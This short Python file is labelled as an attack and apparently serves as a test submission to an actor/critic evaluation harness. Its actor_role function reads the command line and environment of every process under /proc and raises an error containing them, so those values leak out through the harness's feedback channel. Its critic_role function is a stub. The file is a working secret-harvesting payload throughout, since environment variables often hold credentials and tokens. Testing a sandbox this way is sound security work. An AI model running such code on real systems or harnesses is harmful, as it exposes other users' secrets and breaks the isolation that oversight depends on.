"""Attack: read every process's command line and environment and show them in the feedback."""
import os


def actor_role():
    seen = []
    for pid in os.listdir("/proc"):
        for what in ("cmdline", "environ"):
            try:
                seen.append(open(f"/proc/{pid}/{what}", "rb").read().replace(b"\0", b" ").decode(errors="replace"))
            except Exception:
                pass
    raise RuntimeError(" | ".join(seen))


def critic_role():
    return "z"
